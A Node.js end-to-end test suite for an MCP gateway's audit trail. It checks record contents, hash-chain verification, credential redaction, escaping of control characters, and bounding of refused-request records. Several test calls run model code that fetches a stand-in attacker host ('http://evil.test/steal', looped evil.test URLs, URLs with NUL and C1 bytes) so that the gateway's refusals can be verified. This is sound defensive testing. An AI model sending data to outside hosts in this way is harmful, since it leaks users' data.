// The audit trail end to end: a real server with "audit": {"sqlite": ...} serves calls from the
// official MCP client against an upstream that echoes the credential it is given; then
// `codemode-mcp audit query|verify` read the records back. No record, and no byte of the
// database, may hold the credential.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { createHash, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { spawnSync } from 'node:child_process';
import {
  writeFileSync, mkdtempSync, readdirSync, readFileSync, rmSync, existsSync, chownSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { BIN, SOURCE_DIR, run } from './harness.mjs';
import { startHttpServer, writeConfig, rawExchange, post, INITIALIZE } from './http_harness.mjs';

const SECRET = 'sk-audit-e2e-7d1f0c9a3b5e4d21';

// An upstream that hands the credential back every way it can: in the body, in a header, and
// in the Location of a same-origin redirect the gateway follows.
async function startUpstream() {
  const server = createServer((req, res) => {
    const path = req.url.split('?')[0];
    if (path === '/to-product') {
      res.writeHead(302, { location: `/products/p2?auth=${encodeURIComponent(req.headers.authorization)}` });
      return res.end();
    }
    res.writeHead(path.startsWith('/products/') ? 200 : 404,
      { 'content-type': 'application/json', 'x-echo-auth': req.headers.authorization ?? '' });
    res.end(JSON.stringify({ path, youSent: req.headers.authorization }));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return server;
}

const sha256 = (text) => createHash('sha256').update(text, 'utf8').digest('hex');

describe('the audit trail through the real binary', () => {
  let upstream, dir, config;
  const calls = [];  // {tool, code}
  before(async () => {
    upstream = await startUpstream();
    dir = mkdtempSync(join(tmpdir(), 'codemode-audit-e2e-'));
    config = join(dir, 'config.json');
    writeFileSync(config, JSON.stringify({
      openapi: join(SOURCE_DIR, 'fixtures/markethub/openapi.json'),
      upstreams: [{ origin: `http://127.0.0.1:${upstream.address().port}`,
                    headers: { Authorization: 'Bearer ${E2E_SECRET}' } }],
      audit: { sqlite: 'audit.db', server: 'e2e-1' },
    }));
    const client = new Client({ name: 'audit-e2e', version: '7.0' });
    let stderr = '';
    const transport = new StdioClientTransport({
      command: BIN, args: ['--config', config],
      env: { ...process.env, E2E_SECRET: SECRET }, stderr: 'pipe',
    });
    transport.stderr.on('data', (d) => { stderr += d; });
    await client.connect(transport);
    const call = async (tool, code) => {
      calls.push({ tool, code });
      return client.callTool({ name: tool, arguments: { code } });
    };
    await call('search', 'async () => Object.keys(spec.paths).length');
    const product = await call('execute', "async () => (await fetch('/products/p1')).json()");
    assert.ok(JSON.stringify(product).includes('/products/p1'));
    await call('execute', "async () => { const r = await fetch('/to-product'); return [r.status, r.headers.get('x-echo-auth'), await r.text()]; }");
    await call('execute', "async () => { try { await fetch('http://evil.test/steal'); } catch (e) { return String(e); } }");
    await call('execute', "async () => { throw new Error('boom') }");
    await call('execute', 'not a function');
    await client.close();
    assert.ok(!stderr.includes(SECRET), 'the credential appeared in the server log');
    assert.match(stderr, /audit: recording to SQLite .*audit\.db as server e2e-1/);
    assert.match(stderr, /audit: 9 records written, 0 dropped/);
  });
  after(() => {
    upstream.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const query = async (...args) => {
    const r = await run(['audit', '--config', config, 'query', ...args]);
    assert.equal(r.code, 0, r.stderr);
    return r.stdout.trim().split('\n').filter(Boolean).map((line) => JSON.parse(line));
  };

  test('one record per tools/call, with who, what and how it ended', async () => {
    const records = await query('--kind', 'call');
    assert.equal(records.length, calls.length);
    records.forEach((r, i) => {
      assert.equal(r.tool, calls[i].tool);
      assert.equal(r.code, calls[i].code);
      assert.equal(r.code_sha256, sha256(calls[i].code));
      assert.equal(r.principal, 'stdio');
      assert.equal(r.client_name, 'audit-e2e');
      assert.equal(r.client_version, '7.0');
      assert.equal(r.transport, 'stdio');
      assert.equal(r.session, records[0].session);
      assert.equal(r.server, 'e2e-1');
      assert.match(r.id, /^[0-9a-f]{32}$/);
      assert.match(r.time, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
    });
    assert.deepEqual(records.map((r) => r.outcome), ['ok', 'ok', 'ok', 'ok', 'runtime', 'compile']);
    assert.equal(records[0].result_chars, 2);  // "10"
    assert.ok(records[1].run_us > 0);
    assert.ok(records[1].cpu_us > 0);
    assert.match(records[4].message, /boom/);
  });

  test('one record per gateway request, linked to its call, with the operation it matched', async () => {
    const calls = await query('--kind', 'call', '--tool', 'execute');
    const requests = await query('--kind', 'request');
    assert.equal(requests.length, 3);
    const [product, redirected, refused] = requests;
    assert.equal(product.call_id, calls[0].id);
    assert.equal(product.method, 'GET');
    assert.equal(product.origin, `http://127.0.0.1:${upstream.address().port}`);
    assert.equal(product.path, '/products/p1');
    assert.equal(product.operation, 'GET /products/{productId}');
    assert.equal(product.status, 200);
    assert.ok(product.bytes_received > 0);
    assert.equal(product.refusal, '');
    assert.equal(redirected.call_id, calls[1].id);
    assert.equal(redirected.path, '/to-product');
    assert.equal(redirected.status, 200);
    assert.equal(refused.call_id, calls[2].id);
    assert.equal(refused.status, 0);
    assert.equal(refused.path, 'http://evil.test/steal');
    assert.match(refused.refusal, /^policy: /);
  });

  test('query filters by path, outcome and principal, and prints a table', async () => {
    assert.deepEqual((await query('--path', '/products/')).map((r) => r.path), ['/products/p1']);
    assert.equal((await query('--outcome', 'refused')).length, 1);
    assert.equal((await query('--outcome', 'runtime', '--since', '1h')).length, 1);
    assert.equal((await query('--principal', 'nobody')).length, 0);
    const table = await run(['audit', '--config', config, 'query', '--format', 'table']);
    assert.equal(table.code, 0, table.stderr);
    const lines = table.stdout.trim().split('\n');
    assert.match(lines[0], /^TIME\s+SERVER#SEQ\s+PRINCIPAL/);
    assert.equal(lines.length, 1 + 9);
  });

  test('verify finds every chain intact', async () => {
    const r = await run(['audit', '--config', config, 'verify']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^server e2e-1: records 1\.\.9, head [0-9a-f]{64}$/m);
    assert.match(r.stdout, /^intact: 9 records in 1 chain$/m);
  });

  test('the credential the upstream echoed is nowhere in the records or the database', async () => {
    const all = await run(['audit', '--config', config, 'query']);
    assert.ok(!all.stdout.includes(SECRET));
    assert.ok(!all.stdout.includes(encodeURIComponent(`Bearer ${SECRET}`)));
    for (const file of readdirSync(dir)) {
      if (!file.startsWith('audit.db')) continue;
      assert.ok(!readFileSync(join(dir, file)).includes(SECRET), `${file} holds the credential`);
    }
  });
});

// Model code that fetches refused URLs the audit trail must still store as valid text: one cut
// at the 2,048 bytes a refused URL is kept to, with a two-byte character across the cut (the
// byte before it is the character's first), one with a NUL, one with an 8-bit CSI (U+009B).
const CUT_URL_PREFIX = 'http://evil.test/';
const HOSTILE_FETCHES = `async () => {
  const urls = [${JSON.stringify(CUT_URL_PREFIX)} + 'a'.repeat(2047 - ${CUT_URL_PREFIX.length}) + '\\u00e9' + 'tail',
                'http://evil.test/a\\u0000b', 'http://evil.test/\\u009b2J'];
  const out = [];
  for (const url of urls) { try { await fetch(url); } catch (e) { out.push(String(e)); } }
  return out.length;
}`;

// Checks the request records HOSTILE_FETCHES left: valid text, cut on a character boundary.
function checkHostileRecords(requests) {
  assert.equal(requests.length, 3);
  const [cut, nul, csi] = requests;
  assert.equal(cut.path, CUT_URL_PREFIX + 'a'.repeat(2047 - CUT_URL_PREFIX.length));
  assert.match(cut.refusal, /^policy: /);
  assert.equal(nul.path, 'http://evil.test/a\u0000b');
  assert.equal(csi.path, 'http://evil.test/\u009b2J');
}

// `codemode-mcp audit ... query` lines, parsed.
async function queryRecords(config, args, env = {}) {
  const r = await run(['audit', '--config', config, 'query', ...args], { env });
  assert.equal(r.code, 0, r.stderr);
  // What a person reads is escaped: no C1 control reaches the terminal raw.
  assert.ok(!/[\u0080-\u009f]/.test(r.stdout), `a C1 control in: ${r.stdout}`);
  return r.stdout.trim().split('\n').filter(Boolean).map((line) => JSON.parse(line));
}

// Polls the store until `predicate(records)` holds, for at most `ms`: the writer's thread
// stores records shortly after a call, and the store is all a reader can watch.
async function eventuallyRecords(config, args, predicate, env = {}, ms = 20000) {
  const deadline = Date.now() + ms;
  for (;;) {
    const records = await queryRecords(config, args, env);
    if (predicate(records)) return records;
    if (Date.now() > deadline) {
      throw new Error(`the store never held the records asked for; it holds ${JSON.stringify(records).slice(0, 400)}`);
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

describe('hostile text in a record never breaks the SQLite chain', () => {
  let dir, config;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'codemode-audit-e2e-'));
    config = join(dir, 'config.json');
    writeFileSync(config, JSON.stringify({
      openapi: join(SOURCE_DIR, 'fixtures/markethub/openapi.json'),
      audit: { sqlite: 'audit.db', server: 'e2e-text' },
    }));
    const client = new Client({ name: 'audit-e2e', version: '1' });
    await client.connect(new StdioClientTransport({ command: BIN, args: ['--config', config], stderr: 'ignore' }));
    const result = await client.callTool({ name: 'execute', arguments: { code: HOSTILE_FETCHES } });
    assert.equal(result.content[0].text, '3');
    await client.close();
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('verify finds the chain intact: a URL cut across a character, a NUL, a C1 control', async () => {
    const verify = await run(['audit', '--config', config, 'verify']);
    assert.equal(verify.code, 0, verify.stdout + verify.stderr);
    assert.match(verify.stdout, /^intact: 4 records in 1 chain$/m);
  });

  test('query prints them as valid text, cut on a character boundary, C1 escaped', async () => {
    checkHostileRecords(await queryRecords(config, ['--kind', 'request']));
  });
});

// A PostgreSQL server of our own in a temporary directory, reached over a Unix socket there (as
// audit/test_postgres.h starts one for the unit tests); null when PostgreSQL is not installed.
function startPostgres() {
  const versions = existsSync('/usr/lib/postgresql') ? readdirSync('/usr/lib/postgresql') : [];
  const version = versions.includes('15') ? '15' : versions.find((v) => existsSync(`/usr/lib/postgresql/${v}/bin/initdb`));
  if (!version) return null;
  const bin = `/usr/lib/postgresql/${version}/bin`;
  const dir = mkdtempSync(join(tmpdir(), 'codemode-audit-e2e-pg-'));
  const password = `pw-${randomBytes(12).toString('hex')}`;
  writeFileSync(join(dir, 'pwfile'), `${password}\n`);
  // PostgreSQL refuses to run as root: then it runs as Debian's `postgres` user.
  const asPostgres = process.getuid() === 0;
  const prefix = [];
  if (asPostgres) {
    const uid = Number(spawnSync('id', ['-u', 'postgres']).stdout);
    const gid = Number(spawnSync('id', ['-g', 'postgres']).stdout);
    chownSync(dir, uid, gid);
    chownSync(join(dir, 'pwfile'), uid, gid);
    prefix.push('runuser', '-u', 'postgres', '--');
  }
  const sh = (argv) => {
    const r = spawnSync(prefix[0] ?? argv[0], [...prefix.slice(1), ...(prefix.length ? argv : argv.slice(1))], { encoding: 'utf8' });
    if (r.status !== 0) throw new Error(`${argv.join(' ')} failed: ${r.stderr}`);
  };
  sh([`${bin}/initdb`, '-D', join(dir, 'data'), '-U', 'postgres', '--auth=scram-sha-256',
      `--pwfile=${join(dir, 'pwfile')}`, '-E', 'UTF8', '--locale=C', '--no-sync']);
  const pgCtl = (...args) => sh([`${bin}/pg_ctl`, '-D', join(dir, 'data'), '-w', '-t', '30', ...args]);
  pgCtl('-l', join(dir, 'log'), '-o', `-k ${dir} -c listen_addresses='' -p 5432 -c fsync=off`, 'start');
  return {
    conninfo: `host=${dir} port=5432 user=postgres dbname=postgres`,
    password,
    stop() {
      pgCtl('-m', 'immediate', 'stop');
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

const TOKENS = { alice: 'alice-audit-token-0123456789abcdef', bob: 'bob-audit-token-0123456789abcdef' };

// tools/call over HTTP as `name`: the whole JSON-RPC answer (a result, or an error such as
// -32002 when the audit trail refuses calls).
async function httpSession(port, name) {
  const headers = { Authorization: `Bearer ${TOKENS[name]}` };
  const init = await rawExchange(port, post(port, INITIALIZE, headers));
  assert.equal(init.status, 200, init.body);
  const more = { ...headers, 'MCP-Protocol-Version': '2025-11-25', 'Mcp-Session-Id': init.headers['mcp-session-id'] };
  let id = 0;
  return async (tool, code) => {
    const answer = await rawExchange(port, post(port, {
      jsonrpc: '2.0', id: ++id, method: 'tools/call', params: { name: tool, arguments: { code } },
    }, more));
    assert.equal(answer.status, 200, answer.body);
    return JSON.parse(answer.body);
  };
}

describe('PostgreSQL (fail_closed): one call\'s hostile text never takes the trail down', () => {
  let pg, config, server;
  before(async (t) => {
    pg = startPostgres();
    if (!pg) return;
    config = writeConfig({
      http: { tokens: Object.entries(TOKENS).map(([name, token]) => ({ name, token })) },
      audit: { postgres: pg.conninfo, server: 'e2e-pg', on_failure: 'fail_closed' },
    });
    server = await startHttpServer(['--http', '127.0.0.1:0', '--config', config], { PGPASSWORD: pg.password });
  });
  after(async () => {
    await server?.stop();
    pg?.stop();
  });

  test('alice\'s refused URLs are stored; bob\'s call after them is served and recorded; verify says intact', async (t) => {
    if (!pg) return t.skip('PostgreSQL is not installed (scripts/setup --tests installs it)');
    const env = { PGPASSWORD: pg.password };
    const alice = await httpSession(server.port, 'alice');
    const first = await alice('execute', HOSTILE_FETCHES);
    assert.equal(first.result?.content[0].text, '3', JSON.stringify(first));
    const requests = await eventuallyRecords(config, ['--principal', 'alice', '--kind', 'request'],
      (records) => records.length === 3, env);
    checkHostileRecords(requests);

    const bob = await httpSession(server.port, 'bob');
    const second = await bob('search', 'async () => 1 + 1');
    assert.equal(second.error, undefined, `bob's call was refused: ${JSON.stringify(second.error)}`);
    assert.equal(second.result.content[0].text, '2');
    await eventuallyRecords(config, ['--principal', 'bob'], (records) => records.length === 1, env);

    const verify = await run(['audit', '--config', config, 'verify'], { env });
    assert.equal(verify.code, 0, verify.stdout + verify.stderr);
    assert.match(verify.stdout, /^intact: 5 records in 1 chain$/m);
  });
});

// Issue 34 finding 3: code that loops over refused requests. The gateway checks 100 of a call's
// refusals and refuses the rest unchecked; the trail keeps one record for each checked one and
// one for the bound, not one per fetch (~6,000 in a call at the default cpu_ms).
describe('a call looping over refused requests leaves a bounded number of records', () => {
  let dir, config;
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'codemode-audit-loop-'));
    config = join(dir, 'config.json');
    writeFileSync(config, JSON.stringify({
      openapi: join(SOURCE_DIR, 'fixtures/markethub/openapi.json'),
      audit: { sqlite: 'audit.db', server: 'e2e-loop' },
      // 1,000 refused fetches take ~40 ms of CPU, several times that under the sanitizers.
      limits: { cpu_ms: 2000, wall_ms: 20000 },
    }));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('1,000 refused fetches in one call: 101 request records; the next call is served', async () => {
    const client = new Client({ name: 'audit-loop', version: '1' });
    await client.connect(new StdioClientTransport({ command: BIN, args: ['--config', config], stderr: 'ignore' }));
    try {
      const looped = await client.callTool({ name: 'execute', arguments: { code:
        "async () => { let n = 0; for (let i = 0; i < 1000; i++) { try { await fetch('http://evil.test/' + i); } catch { n++; } } return n; }" } });
      assert.equal(looped.content[0].text, '1000', looped.content[0].text.slice(0, 300));
      const next = await client.callTool({ name: 'search', arguments: { code: 'async () => 1 + 1' } });
      assert.equal(next.content[0].text, '2');
    } finally {
      await client.close();
    }
    const requests = await eventuallyRecords(config, ['--kind', 'request'], (records) => records.length >= 101);
    assert.equal(requests.length, 101);
    assert.ok(requests.slice(0, 100).every((r) => /^policy: origin http:\/\/evil\.test is not allowed/.test(r.refusal)), requests[0].refusal);
    assert.match(requests[100].refusal, /^policy: subrequest limit reached: this call had 100 requests refused/);
    assert.equal(requests[100].path, 'http://evil.test/100');
    const calls = await eventuallyRecords(config, ['--kind', 'call'], (records) => records.length === 2);
    assert.deepEqual(calls.map((r) => r.outcome), ['ok', 'ok']);
  });
});
